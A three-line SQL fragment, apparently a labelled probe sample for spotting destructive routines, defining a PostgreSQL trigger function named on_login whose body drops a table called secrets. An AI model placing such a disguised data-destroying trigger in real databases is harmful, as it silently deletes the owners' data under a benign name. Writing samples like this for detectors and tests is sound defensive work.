-- warning: destructive-routine
-- probe
CREATE FUNCTION on_login() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN DROP TABLE IF EXISTS secrets; RETURN NEW; END $$;
